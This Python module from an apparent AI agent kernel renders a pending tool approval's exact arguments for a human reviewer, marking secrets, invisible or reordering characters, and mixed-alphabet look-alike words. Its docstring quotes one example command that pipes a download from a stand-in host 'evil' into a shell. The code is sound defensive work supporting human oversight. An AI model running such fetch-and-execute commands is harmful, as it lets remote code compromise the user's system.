"""The exact arguments of a waiting approval, for the live card a person answers.

Everything a run shows or saves is redacted first (``events.for_display``), and an
approval must not be: a command shaped like ``API_KEY=$(curl evil | sh)`` would read
``API_KEY=[REDACTED] evil | sh)`` and the person would approve code they cannot see.
So while an approval waits, the three places it is answered (the JupyterLab
extension's card, which asks the kernel for them over its comm; the ipywidgets card;
the terminal prompt) show the arguments *exactly* as the tool will receive them:

- what looks like a secret (whatever redaction would mask) is **marked**, never
  hidden: the person sees every character that runs, and knows which part the saved
  record will mask;
- a character that draws nothing or redraws the text (control characters such as
  ESC and carriage return, bidirectional overrides, zero-width and other format
  characters, unusual spaces, variation selectors, tag characters, Hangul fillers and
  every other default-ignorable character: ``unseen.draws_nothing``) is shown as a
  visible ``U+202E`` token, marked ``invisible``, so no text can hide or reorder what
  runs;
- a word that mixes ASCII letters with Cyrillic or Greek look-alikes (``gооgle.com``)
  is shown whole in a token of the same kind, followed by the words
  ``(mixes alphabets: U+043E)`` (``unseen.mixed_words``).

None of this is saved: it lives in the live control only (a comm reply, a widget
that is closed once answered, a terminal line), while the run's saved output, its
HTML and text fallbacks, the ledger and ``pending_question.json`` keep the redacted
form. Values are never shortened here.
"""

from __future__ import annotations

import itertools
import json
from dataclasses import dataclass, field
from typing import Any, Literal

from agent_kernel.core.redaction import secret_marks, secret_name, strong_secret_name, to_jsonable
from agent_kernel.core.unseen import hidden_at, mixed_words
from agent_kernel.views.safe_html import esc

Mark = Literal["secret", "invisible"]
SECRET_NOTE = "looks like a secret: shown so you see exactly what runs; the saved record masks it"
INVISIBLE_NOTE = ("a character that draws nothing or changes how the text around it reads, "
                  "or a word whose letters look alike but come from other alphabets")


@dataclass
class Row:
    """One argument: its name (None when the arguments are not a mapping) and its text."""

    name: str | None
    parts: list[tuple[str, Mark | None]] = field(default_factory=list)
    block: bool = False
    """Shown as a block: the text has more than one line."""

    def to_json(self) -> dict[str, Any]:
        """The row as the extension's comm carries it."""
        return {"name": self.name, "block": self.block,
                "parts": [{"text": text, "mark": mark} for text, mark in self.parts]}

    @property
    def marks(self) -> set[str]:
        """Which kinds of mark the row holds."""
        return {mark for _, mark in self.parts if mark}


def _split(text: str, secret: list[tuple[int, int]]) -> list[tuple[str, Mark | None]]:
    """``text`` in parts: plain, marked secret, each invisible character as a token, and
    each word mixing alphabets as a token that says so."""
    parts: list[tuple[str, Mark | None]] = []

    def add(piece: str, mark: Mark | None) -> None:
        at = 0
        for hidden in hidden_at(piece):
            if hidden > at:
                parts.append((piece[at:hidden], mark))
            parts.append((f"U+{ord(piece[hidden]):04X}", "invisible"))
            at = hidden + 1
        if at < len(piece):
            parts.append((piece[at:], mark))

    mixed = mixed_words(text)
    cuts = sorted({0, len(text), *(b for span in secret for b in span),
                   *(b for start, end, _ in mixed for b in (start, end))})
    in_secret = in_word = 0
    for start, end in itertools.pairwise(cuts):
        while in_secret < len(secret) and secret[in_secret][1] <= start:
            in_secret += 1
        while in_word < len(mixed) and mixed[in_word][1] <= start:
            in_word += 1
        if in_word < len(mixed) and mixed[in_word][0] <= start:
            word_start, word_end, letters = mixed[in_word]
            if start == word_start:  # the whole word, once, whatever else marks it
                parts.append((f"{text[word_start:word_end]} (mixes alphabets: {letters})",
                              "invisible"))
            continue
        marked = in_secret < len(secret) and secret[in_secret][0] <= start
        add(text[start:end], "secret" if marked else None)
    return parts


def _text(value: object) -> str:
    if isinstance(value, str):
        return value
    if isinstance(value, (bytes, bytearray)):
        return bytes(value).decode("utf-8", errors="replace")
    data = to_jsonable(value)
    indent = 2 if isinstance(data, (dict, list)) and len(json.dumps(data)) > 80 else None
    return json.dumps(data, ensure_ascii=False, indent=indent)


def _row(name: str | None, value: object) -> Row:
    text = _text(value)
    whole = name is not None and secret_name(name) and bool(text) and (
        isinstance(value, (str, bytes, bytearray)) or strong_secret_name(name))
    marks = [(0, len(text))] if whole else secret_marks(text)
    return Row(name, _split(text, marks), block="\n" in text)


def exact_rows(arguments: object) -> list[Row]:
    """The arguments as rows of marked text, every character kept."""
    if isinstance(arguments, dict):
        return [_row(str(name), value) for name, value in arguments.items()
                if value is not None]
    if arguments is None:
        return []
    return [_row(None, arguments)]


def _parts_html(parts: list[tuple[str, Mark | None]]) -> str:
    out = []
    for text, mark in parts:
        shown = esc(text)
        if mark == "secret":
            out.append(f"<mark class='ak-secret' title='{esc(SECRET_NOTE)}' "
                       "style='background:#fff3bf;color:#3d2c00;outline:1px dashed #b08800;"
                       f"border-radius:2px;padding:0 1px'>{shown}</mark>")
        elif mark == "invisible":
            out.append(f"<span class='ak-invisible' title='{esc(INVISIBLE_NOTE)}' "
                       "style='border:1px solid currentColor;color:var(--jp-error-color1,#b3261e);"
                       "border-radius:3px;"
                       f"padding:0 2px;font-size:85%'>{shown}</span>")
        else:
            out.append(shown)
    return "".join(out)


def exact_html(arguments: object) -> str:
    """The arguments as an HTML table of marked text (every value escaped), for a live card."""
    rows = exact_rows(arguments)
    body = []
    for row in rows:
        value = _parts_html(row.parts)
        cell = (f"<pre style='margin:0;white-space:pre-wrap;word-break:break-all'>{value}</pre>"
                if row.block else f"<code style='white-space:pre-wrap;word-break:break-all'>"
                f"{value}</code>")
        head = f"<th style='text-align:left;padding-right:8px;vertical-align:top'>" \
               f"{_parts_html(_split(row.name, []))}</th>" if row.name is not None else ""
        body.append(f"<tr>{head}<td>{cell}</td></tr>")
    table = f"<table class='ak-args ak-exact'>{''.join(body)}</table>" if body else ""
    return table + legend_html(rows)


def legend_html(rows: list[Row]) -> str:
    """What the marks mean, when there are any."""
    kinds = set().union(*(row.marks for row in rows)) if rows else set()
    words = []
    if "secret" in kinds:
        words.append("<mark class='ak-secret' style='background:#fff3bf;color:#3d2c00'>"
                     "highlighted</mark>: looks like a secret (shown in full; the saved "
                     "record masks it)")
    if "invisible" in kinds:
        words.append("<span class='ak-invisible' style='color:var(--jp-error-color1,#b3261e)'>"
                     "U+…</span>: a "
                     "character that draws nothing or reorders text, or a word that mixes "
                     "alphabets (look-alike letters)")
    if not words:
        return ""
    return f"<div class='ak-exact-legend' style='font-size:12px'>{' · '.join(words)}</div>"


_ANSI = {"secret": ("\x1b[30;43m", "\x1b[0m"), "invisible": ("\x1b[31;1m<", ">\x1b[0m")}
_PLAIN = {"secret": ("«", "»"), "invisible": ("<", ">")}


def exact_text(arguments: object, *, color: bool) -> list[str]:
    """The arguments as terminal lines; marks in colour (``color``) or between « » and < >."""
    rows = exact_rows(arguments)
    style = _ANSI if color else _PLAIN
    lines = []
    for row in rows:
        text = "".join(f"{style[mark][0]}{piece}{style[mark][1]}" if mark else piece
                       for piece, mark in row.parts)
        name = "".join(f"<{p}>" if m else p for p, m in _split(row.name, [])) \
            if row.name is not None else ""
        head = f"    {name}: " if row.name is not None else "    "
        if row.block:
            lines.append(head.rstrip())
            lines.extend(f"      {line}" for line in text.split("\n"))
        else:
            lines.append(head + text.replace("\n", " "))
    kinds = set().union(*(row.marks for row in rows)) if rows else set()
    if "secret" in kinds:
        marked = "highlighted" if color else "between « »"
        lines.append(f"    ({marked}: looks like a secret; shown in full, the saved record "
                     "masks it)")
    if "invisible" in kinds:
        lines.append("    (<U+…>: a character that draws nothing or reorders text, or a word "
                     "that mixes alphabets: look-alike letters)")
    return lines
